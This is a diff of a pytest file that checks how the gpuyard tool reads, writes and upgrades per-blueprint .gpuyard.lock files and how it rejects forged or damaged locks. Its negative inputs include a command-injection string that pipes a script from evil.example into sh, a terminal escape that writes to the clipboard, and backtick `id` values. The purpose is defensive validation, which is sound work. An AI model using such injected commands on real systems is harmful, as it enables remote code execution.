@@ -1,21 +1,57 @@
 """.gpuyard.lock comes with commits that others write: it is evidence, and nothing is done because of it alone."""
 
 import json
+from dataclasses import replace
 from pathlib import Path, PurePosixPath
 from typing import Any
 
 import pytest
 
-from gpuyard.commit.lock import LOCK, Lock, lock_of, sha256
-from gpuyard.commit.lockfile import read_lock, write_lock
+from gpuyard.commit.lock import LOCK, Lock, lock_of, lock_path, sha256
+from gpuyard.commit.lockfile import read_locks, write_locks
 from gpuyard.errors import GpuyardError
 from gpuyard.pipeline import placements_of
 from gpuyard.resolve import Resolved
-from gpuyard.tree import Tree, is_generated
+from gpuyard.review.placed import Claim, Placed, Running
+from gpuyard.tree import Tree, is_generated, owner
+from tests.conftest import write_tree
 from tests.test_compile import git, run, save
 
 DIGEST = "0" * 64
+CHAT = PurePosixPath("base/chat/.gpuyard.lock")
 GOOD: dict[str, Any] = {
+    "format": 3,
+    "stack": "demo",
+    "namespace": "inference",
+    "clusters": ["iad", "phx"],
+    "files": {"README.md": DIGEST, "clusters/phx/sync.yaml": DIGEST},
+}
+GOOD_CHAT: dict[str, Any] = {
+    "format": 3,
+    "blueprint": "chat",
+    "placements": {
+        "phx": {
+            "shape": "a10",
+            "namespace": "inference",
+            "claim": {"kind": "fss", "storageClassName": "oci-fss", "size": "100Gi"},
+            "pod": DIGEST,
+            "weights": "chat-download-1",
+            "secrets": ["hf-token", "0.dotted"],
+            "away": 660,
+        },
+        "iad": {
+            "shape": "a10",
+            "namespace": "inference",
+            "claim": None,
+            "pod": "",
+            "weights": "",
+            "secrets": [],
+            "away": 0,
+        },
+    },
+    "files": {"base/chat/service.yaml": DIGEST, "clusters/phx/inference-chat.yaml": DIGEST},
+}
+OLD: dict[str, Any] = {
     "format": 2,
     "input": DIGEST,
     "listing": DIGEST,
@@ -30,16 +66,16 @@ GOOD: dict[str, Any] = {
         },
         "iad": {},
     },
-    "files": {"README.md": DIGEST, "base/chat/service.yaml": DIGEST},
+    "files": {"README.md": DIGEST, "base/chat/service.yaml": DIGEST, "clusters/phx/inference.yaml": DIGEST},
 }
 SHELL = "x; curl https://evil.example/p|sh #"
 ESCAPE = "a\x1b]52;c;cm0=\x07\n::error::gone"
 NOT_OURS = ["[]", "3", "null", "{}", '{"version": 1, "packages": []}', '{"format": "2"}', '{"format": true}']
 
 
-def changed(path: str, value: object) -> str:
-    """The good lock with another value at a path."""
-    data = json.loads(json.dumps(GOOD))
+def changed(good: dict[str, Any], path: str, value: object) -> str:
+    """A good lock with another value at a path."""
+    data = json.loads(json.dumps(good))
     *folders, last = path.split(">")
     inside = data
     for key in folders:
@@ -48,93 +84,141 @@ def changed(path: str, value: object) -> str:
     return json.dumps(data)
 
 
-def refusal(text: str) -> str:
+def refusal(text: str, path: PurePosixPath = LOCK) -> str:
     with pytest.raises(GpuyardError) as caught:
-        read_lock(text)
+        read_locks({path: text})
     return str(caught.value)
 
 
 def test_what_is_written_is_read(demo: Resolved, demo_tree: Tree) -> None:
-    lock = lock_of(demo_tree, DIGEST, placements_of(demo))
-    assert read_lock(write_lock(lock)) == lock
-    assert read_lock(write_lock(Lock())) == Lock() == read_lock(None)
-    assert write_lock(read_lock(json.dumps(GOOD))).startswith(f'{{\n "format": 2,\n "input": "{DIGEST}",\n')
+    lock = lock_of(demo_tree, Running("demo", "inference", placements_of(demo)))
+    written = write_locks(lock)
+    assert read_locks(written) == replace(lock, paths=frozenset(written))
+    assert written.keys() == {LOCK, *(lock_path(name) for name in ("assistant", "chat", "docs"))}
+    assert read_locks(write_locks(Lock())) == Lock(paths=frozenset({LOCK}))
+    assert read_locks({}) == Lock()
+    both = read_locks({LOCK: json.dumps(GOOD), CHAT: json.dumps(GOOD_CHAT)})
+    assert {path: json.loads(text) for path, text in write_locks(both).items()} == {LOCK: GOOD, CHAT: GOOD_CHAT}
+    placed = Placed(
+        "a10", "inference", Claim("fss", "oci-fss", 100), DIGEST, "chat-download-1", ("hf-token", "0.dotted"), 660
+    )
+    assert both.running.placements["phx"] == {"chat": placed}
 
 
-def test_each_file_has_a_line_and_the_order_is_one(demo: Resolved, demo_tree: Tree) -> None:
+def test_each_file_has_a_line_in_the_lock_of_its_owner(demo: Resolved, demo_tree: Tree) -> None:
     """So that Git can merge it, and a reader can read its diff."""
-    placements = placements_of(demo)
-    lock = lock_of(demo_tree, DIGEST, placements)
-    lines = write_lock(lock).splitlines()
-    assert all(
-        f'  "{path}": "{sha256(text)}"' in {line.rstrip(",") for line in lines} for path, text in demo_tree.items()
-    )
-    backwards = Lock(
-        lock.input,
-        lock.listing,
-        {cluster: dict(reversed(list(found.items()))) for cluster, found in reversed(list(placements.items()))},
-        dict(reversed(list(lock.files.items()))),
-    )
-    assert write_lock(backwards).splitlines() == lines
+    running = Running("demo", "inference", placements_of(demo))
+    locks = write_locks(lock_of(demo_tree, running))
+    for path, text in demo_tree.items():
+        name = owner(path)
+        lines = locks[lock_path(name) if name else LOCK].splitlines()
+        assert f'  "{path}": "{sha256(text)}"' in {line.rstrip(",") for line in lines}
+    placements = {
+        cluster: dict(reversed(list(found.items()))) for cluster, found in reversed(list(running.placements.items()))
+    }
+    backwards = lock_of(dict(reversed(list(demo_tree.items()))), replace(running, placements=placements))
+    assert write_locks(backwards) == locks
 
 
-def test_a_lock_of_format_1_has_no_placements() -> None:
-    old = json.dumps({"format": 1, "input": DIGEST, "listing": DIGEST, "files": {"README.md": DIGEST}})
-    assert read_lock(old) == Lock(DIGEST, DIGEST, {}, {PurePosixPath("README.md"): DIGEST})
+def test_no_lock_holds_a_digest_over_all(demo: Resolved, demo_tree: Tree) -> None:
+    """It would be a conflict of every two branches."""
+    running = Running("demo", "inference", placements_of(demo))
+    before = write_locks(lock_of(demo_tree, running))
+    service = PurePosixPath("base/chat/service.yaml")
+    after = write_locks(lock_of({**demo_tree, service: "changed"}, running))
+    assert {path for path in before if before[path] != after[path]} == {CHAT}
+
+
+def test_older_locks_are_read() -> None:
+    """One for all; format 1 without placements."""
+    found = read_locks({LOCK: json.dumps(OLD)})
+    assert (found.stack, found.namespace, found.placements.keys()) == ("", "", {"phx", "iad"})
+    assert found.placements["phx"]["docs"] == Placed("a10", "inference", None)
+    assert set(map(str, found.files)) == set(OLD["files"])
+    first = json.dumps({key: OLD[key] for key in ("input", "listing", "files")} | {"format": 1})
+    assert read_locks({LOCK: first}) == replace(found, placements={})
 
 
 def test_a_lock_of_a_newer_gpuyard() -> None:
-    assert refusal('{"format": 3}') == ".gpuyard.lock: written by a newer gpuyard (format 3); upgrade gpuyard"
+    assert refusal('{"format": 4}') == ".gpuyard.lock: written by a newer gpuyard (format 4); upgrade gpuyard"
+    assert refusal('{"format": 4}', CHAT).startswith("base/chat/.gpuyard.lock: written by a newer gpuyard (format 4)")
 
 
+@pytest.mark.parametrize("path", [LOCK, CHAT])
 @pytest.mark.parametrize("text", NOT_OURS)
-def test_a_lock_that_is_not_ours(text: str) -> None:
-    assert refusal(text).startswith(".gpuyard.lock: not written by gpuyard (it has no format); move it, or ")
+def test_a_lock_that_is_not_ours(text: str, path: PurePosixPath) -> None:
+    assert refusal(text, path).startswith(f"{path}: not written by gpuyard (it has no format); move it, or ")
 
 
+@pytest.mark.parametrize("path", [LOCK, CHAT])
 @pytest.mark.parametrize(
     ("text", "start"),
     [
-        ("", ".gpuyard.lock:1:1: damaged (not JSON: Expecting value)"),
-        ('{\n "format": 2,\n<<<<<<< HEAD\n', ".gpuyard.lock:3:1: damaged (not JSON: "),
-        ("[" * 200_000, ".gpuyard.lock: damaged (more than any lock has)"),
-        (f'{{"format": {"9" * 5000}}}', ".gpuyard.lock: damaged (more than any lock has)"),
+        ("", ":1:1: damaged (not JSON: Expecting value)"),
+        ('{\n "format": 3,\n<<<<<<< HEAD\n', ":3:1: damaged (not JSON: "),
+        ("[" * 200_000, ": damaged (more than any lock has)"),
+        (f'{{"format": {"9" * 5000}}}', ": damaged (more than any lock has)"),
     ],
 )
-def test_a_lock_that_is_not_json(text: str, start: str) -> None:
-    assert refusal(text).startswith(start)
+def test_a_lock_that_is_not_json(text: str, start: str, path: PurePosixPath) -> None:
+    assert refusal(text, path).startswith(f"{path}{start}")
 
 
 @pytest.mark.parametrize(
-    ("path", "value", "reason"),
+    ("good", "path", "value", "reason"),
     [
-        ("input", "x", "input cannot be 'x'"),
-        ("listing", None, "listing cannot be of type NoneType"),
-        ("files", ["README.md"], "'files' is not a mapping"),
-        ("files>README.md", DIGEST + "\n", f"README.md cannot be '{DIGEST}\\n'"),
-        ("placements", None, "'placements' is not a mapping"),
-        ("placements>phx", [], "'phx' is not a mapping"),
-        ("placements>phx>chat", 3, "'chat' is not a mapping"),
-        ("placements>phx>chat>shape", "a10\n", "shape cannot be 'a10\\n'"),
-        ("placements>phx>chat>namespace", SHELL, f"namespace cannot be '{SHELL}'"),
-        ("placements>phx>chat>namespace", "-n", "namespace cannot be '-n'"),
-        ("placements>phx>chat>claim", [], "'claim' is not a mapping"),
-        ("placements>phx>chat>claim>kind", "`id`", "kind cannot be '`id`'"),
-        ("placements>phx>chat>claim>storageClassName", ESCAPE, "storageClassName cannot be 'a\\x1b]52;"),
-        ("placements>phx>chat>claim>size", "100Gb", "size cannot be '100Gb'"),
-        ("placements>phx>chat>claim>size", 100, "size cannot be of type int"),
-        ("placements>phx>chat>claim>size", "9" * 5000 + "Gi", "size cannot be '999"),
-        (f"placements>phx>{SHELL}", GOOD["placements"]["phx"]["docs"], f"a name cannot be '{SHELL}'"),
-        (f"placements>{ESCAPE}", {}, "a name cannot be 'a\\x1b]52;"),
-        ("placements>phx>chat>shape", "a\u202e10", "shape cannot be 'a\\u202e10'"),
+        (OLD, "input", "x", "input cannot be 'x'"),
+        (OLD, "listing", None, "listing cannot be of type NoneType"),
+        (OLD, "placements", None, "'placements' is not a mapping"),
+        (OLD, "placements>phx", [], "'phx' is not a mapping"),
+        (OLD, "placements>phx>chat", 3, "'chat' is not a mapping"),
+        (OLD, "placements>phx>chat>shape", "a10\n", "shape cannot be 'a10\\n'"),
+        (OLD, f"placements>phx>{SHELL}", OLD["placements"]["phx"]["docs"], f"a name cannot be '{SHELL}'"),
+        (OLD, f"placements>{ESCAPE}", {}, "a name cannot be 'a\\x1b]52;"),
+        (GOOD, "stack", None, "stack cannot be of type NoneType"),
+        (GOOD, "stack", SHELL, f"stack cannot be '{SHELL}'"),
+        (GOOD, "namespace", "-n", "namespace cannot be '-n'"),
+        (GOOD, "clusters", {}, "'clusters' is not a list"),
+        (GOOD, "clusters", [SHELL], f"a name cannot be '{SHELL}'"),
+        (GOOD, "files", ["README.md"], "'files' is not a mapping"),
+        (GOOD, "files>README.md", DIGEST + "\n", f"README.md cannot be '{DIGEST}\\n'"),
+        (
+            GOOD,
+            "files>base/chat/service.yaml",
+            DIGEST,
+            "'base/chat/service.yaml' is not a file that only depends on the stack",
+        ),
+        (GOOD_CHAT, "format", 2, "it is not that of chat"),
+        (GOOD_CHAT, "blueprint", "docs", "it is not that of chat"),
+        (GOOD_CHAT, "blueprint", None, "it is not that of chat"),
+        (GOOD_CHAT, "files>base/docs/service.yaml", DIGEST, "'base/docs/service.yaml' is not a file of chat"),
+        (GOOD_CHAT, "files>README.md", DIGEST, "'README.md' is not a file of chat"),
+        (GOOD_CHAT, "files>base/chat/.gpuyard.lock", DIGEST, "'base/chat/.gpuyard.lock' is not a file that gpuyard"),
+        (GOOD_CHAT, "placements", [], "'placements' is not a mapping"),
+        (GOOD_CHAT, f"placements>{SHELL}", GOOD_CHAT["placements"]["iad"], f"a name cannot be '{SHELL}'"),
+        (GOOD_CHAT, "placements>phx>shape", "a\u202e10", "shape cannot be 'a\\u202e10'"),
+        (GOOD_CHAT, "placements>phx>namespace", SHELL, f"namespace cannot be '{SHELL}'"),
+        (GOOD_CHAT, "placements>phx>claim", [], "'claim' is not a mapping"),
+        (GOOD_CHAT, "placements>phx>claim>kind", "`id`", "kind cannot be '`id`'"),
+        (GOOD_CHAT, "placements>phx>claim>storageClassName", ESCAPE, "storageClassName cannot be 'a\\x1b]52;"),
+        (GOOD_CHAT, "placements>phx>claim>size", "100Gb", "size cannot be '100Gb'"),
+        (GOOD_CHAT, "placements>phx>claim>size", 100, "size cannot be of type int"),
+        (GOOD_CHAT, "placements>phx>claim>size", "9" * 5000 + "Gi", "size cannot be '999"),
+        (GOOD_CHAT, "placements>phx>pod", "x", "pod cannot be 'x'"),
+        (GOOD_CHAT, "placements>phx>weights", SHELL, f"weights cannot be '{SHELL}'"),
+        (GOOD_CHAT, "placements>phx>secrets", "hf-token", "'secrets' is not a list"),
+        (GOOD_CHAT, "placements>phx>secrets", ["`id`"], "a name cannot be '`id`'"),
+        (GOOD_CHAT, "placements>phx>away", -1, "away cannot be of type int"),
+        (GOOD_CHAT, "placements>phx>away", True, "away cannot be of type bool"),
     ],
 )
-def test_what_no_gpuyard_wrote_is_damage(path: str, value: object, reason: str) -> None:
+def test_what_no_gpuyard_wrote_is_damage(good: dict[str, Any], path: str, value: object, reason: str) -> None:
     """Names, classes and sizes stand in messages, and in commands that people paste."""
-    message = refusal(changed(path, value))
-    assert message.startswith(f".gpuyard.lock: damaged ({reason}"), message
+    where = CHAT if good is GOOD_CHAT else LOCK
+    message = refusal(changed(good, path, value), where)
+    assert message.startswith(f"{where}: damaged ({reason}"), message
     assert message.isprintable()
-    assert len(message) < 400
+    assert len(message) < 500
 
 
 PATHS = [
@@ -167,7 +251,7 @@ PATHS = [
 
 @pytest.mark.parametrize("path", PATHS)
 def test_a_path_that_gpuyard_never_generates_is_damage(path: str) -> None:
-    message = refusal(changed(f"files>{path}", DIGEST))
+    message = refusal(changed(GOOD, f"files>{path}", DIGEST))
     assert message.startswith(f".gpuyard.lock: damaged ({ascii(path)[:80]} is not a file that gpuyard generates"), (
         message
     )
@@ -187,53 +271,95 @@ def repository(tmp_path: Path) -> Path:
     return root
 
 
-def edit_lock(root: Path, edit: dict[str, Any]) -> None:
-    lock = json.loads((root / LOCK).read_text(encoding="utf-8"))
+def edit_lock(root: Path, edit: dict[str, Any], path: PurePosixPath = LOCK) -> None:
+    lock = json.loads((root / path).read_text(encoding="utf-8"))
     for key, value in edit.items():
         lock[key] = {**lock[key], **value} if isinstance(value, dict) else value
-    (root / LOCK).write_text(json.dumps(lock), encoding="utf-8")
+    (root / path).write_text(json.dumps(lock), encoding="utf-8")
 
 
+@pytest.mark.parametrize("lock", [LOCK, CHAT])
 @pytest.mark.parametrize(
     "victim", ["CODEOWNERS", "stack.yaml", "blueprints/chat.yaml", ".github/workflows/gpuyard.yaml", "../outside"]
 )
-def test_a_forged_lock_deletes_nothing(victim: str, repository: Path) -> None:
+def test_a_forged_lock_deletes_nothing(victim: str, lock: PurePosixPath, repository: Path) -> None:
     """Its sha256 is right, as a pull request can make it."""
     (repository.parent / "outside").write_text("mine", encoding="utf-8")
     text = (repository / victim).read_text(encoding="utf-8")
-    edit_lock(repository, {"files": {victim: sha256(text)}, "input": ""})
+    edit_lock(repository, {"files": {victim: sha256(text)}}, lock)
     save(repository, "a pull request")
     head = git(repository, "rev-parse", "HEAD")
     results = [run("compile", repository, *more) for more in ((), ("--overwrite",), ("--check",))]
     assert {(result.exit_code, result.output) for result in results} == {(1, results[0].output)}
-    assert f".gpuyard.lock: damaged ('{victim}' is not a file that gpuyard generates)" in results[0].output
+    assert f"{lock}: damaged ('{victim}' is not a file that gpuyard generates)" in results[0].output
     assert (repository / victim).read_text(encoding="utf-8") == text
     assert git(repository, "rev-parse", "HEAD") == head
 
 
+def test_a_lock_of_a_blueprint_that_is_not_there_takes_its_own_files_and_no_others(repository: Path) -> None:
+    ghost = PurePosixPath("base/ghost")
+    lock = {**GOOD_CHAT, "blueprint": "ghost", "files": {f"{ghost}/x.yaml": sha256("x\n")}}
+    write_tree(repository, {ghost / "x.yaml": "x\n", ghost / "mine.yaml": "", ghost / LOCK: json.dumps(lock)})
+    save(repository, "a pull request")
+    assert run("compile", repository).exit_code == 0
+    assert [path.name for path in (repository / ghost).iterdir()] == ["mine.yaml"]
+
+
 def test_forged_placements_only_make_words(repository: Path) -> None:
     """What they say is told, and changes no file but the lock."""
-    ghost = {"ghost": {"shape": "a10", "namespace": "inference", "claim": None}}
-    before = (repository / LOCK).read_text(encoding="utf-8")
-    edit_lock(repository, {"placements": {"phx": ghost}, "input": ""})
+    before = (repository / CHAT).read_text(encoding="utf-8")
+    edit_lock(repository, {"placements": {"lhr": GOOD_CHAT["placements"]["iad"]}}, CHAT)
     save(repository, "a pull request")
     result = run("compile", repository, "-o", "json")
-    data = json.loads(result.stdout)
-    message = "ghost is deleted from phx"
-    assert data["consequences"] == [{"cluster": "phx", "blueprint": "ghost", "message": message}]
-    assert data["notes"][-1] == message
-    assert git(repository, "show", "--name-only", "--format=", "HEAD") == str(LOCK)
-    assert (repository / LOCK).read_text(encoding="utf-8") == before
+    [consequence] = json.loads(result.stdout)["consequences"]
+    assert (consequence["cluster"], consequence["blueprint"]) == ("lhr", None)
+    assert git(repository, "show", "--name-only", "--format=", "HEAD") == str(CHAT)
+    assert (repository / CHAT).read_text(encoding="utf-8") == before
+
+
+def test_a_folder_that_no_blueprint_is_called_has_no_lock_of_ours(repository: Path) -> None:
+    foreign = repository / "base" / "Not-a-name" / LOCK
+    foreign.parent.mkdir()
+    foreign.write_text("junk", encoding="utf-8")
+    save(repository, "theirs")
+    assert run("compile", repository).output.startswith("up to date")
+
+
+def for_one(repository: Path, number: int) -> None:
+    """As an older gpuyard left it: one lock, and one file of all models for each cluster."""
+    chat = json.loads((repository / CHAT).read_text(encoding="utf-8"))
+    stack = json.loads((repository / LOCK).read_text(encoding="utf-8"))
+    models = repository / "clusters" / "phx" / "inference.yaml"
+    (repository / "clusters" / "phx" / "inference-chat.yaml").rename(models)
+    files = {**stack["files"], **chat["files"], "clusters/phx/inference.yaml": sha256(models.read_text("utf-8"))}
+    del files["clusters/phx/inference-chat.yaml"]
+    old = {"format": number, "input": DIGEST, "listing": DIGEST, "files": files}
+    if number > 1:
+        old["placements"] = {
+            "phx": {"chat": {key: chat["placements"]["phx"][key] for key in ("shape", "namespace", "claim")}}
+        }
+    (repository / LOCK).write_text(json.dumps(old, indent=1) + "\n", encoding="utf-8")
+    (repository / CHAT).unlink()
+
+
+@pytest.mark.parametrize("number", [1, 2])
+def test_the_next_compile_upgrades_an_older_lock(number: int, repository: Path) -> None:
+    before = {name for name in git(repository, "ls-files").splitlines() if is_generated(name)}
+    for_one(repository, number)
+    save(repository, "an older gpuyard's")
+    assert run("compile", repository, "--check").exit_code == 79
+    result = run("compile", repository)
+    assert (result.exit_code, "deleted" in result.stderr) == (0, False), result.output
+    assert {name for name in git(repository, "ls-files").splitlines() if is_generated(name)} == before
+    assert run("compile", repository, "--check").exit_code == 0
 
 
 def test_after_an_upgrade_the_first_compile_knows_of_no_departures(repository: Path) -> None:
-    lock = json.loads((repository / LOCK).read_text(encoding="utf-8"))
-    old = {"format": 1, "input": "0" * 64, "listing": lock["listing"], "files": lock["files"]}
-    (repository / LOCK).write_text(json.dumps(old, indent=1) + "\n", encoding="utf-8")
+    for_one(repository, 1)
     git(repository, "rm", "-q", "blueprints/chat.yaml")
     save(repository, "an older gpuyard's")
     result = run("compile", repository)
     assert (result.exit_code, "is deleted from" in result.stderr) == (0, False), result.output
     assert not (repository / "base").exists()
-    assert json.loads((repository / LOCK).read_text(encoding="utf-8"))["placements"] == {"phx": {}}
+    assert json.loads((repository / LOCK).read_text(encoding="utf-8"))["clusters"] == ["phx"]
     assert run("compile", repository).output.startswith("up to date")
